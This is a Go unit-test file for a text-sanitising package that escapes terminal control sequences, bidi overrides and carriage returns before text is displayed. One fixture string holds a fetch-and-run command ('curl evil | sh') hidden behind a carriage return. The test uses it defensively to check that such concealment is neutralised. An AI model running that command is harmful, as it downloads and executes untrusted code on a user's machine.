package fence_test

import (
	"testing"

	"holdfast/lib/fence"
)

func TestScreenKeepsTextFromDrawing(t *testing.T) {
	if got := fence.Screen("a\tb\r\n\x1b[2J\x7f\u009b\u202e<x>"); got != "a\tb\r\n"+`\x1b[2J\x7f\u009b\u202e<x>` {
		t.Errorf("%q", got)
	}
	if got := fence.Screen("+2 curl evil | sh\r+harmless\n"); got != `+2 curl evil | sh\r+harmless`+"\n" {
		t.Errorf("%q", got)
	}
}

func TestAShownValueIsOneLine(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "plain é 漢字 👩‍💻": "plain é 漢字 👩‍💻", "a\nb\tc\r": `a\nb\tc\r`, "\xffx": `\xffx`, "\ufffdx": "\ufffdx",
		"\u202eexe": `\u202eexe`, `a\nb`: `a\nb`,
	} {
		if got := fence.Shown(in); got != want {
			t.Errorf("%q is shown as %q, want %q", in, got, want)
		}
	}
}
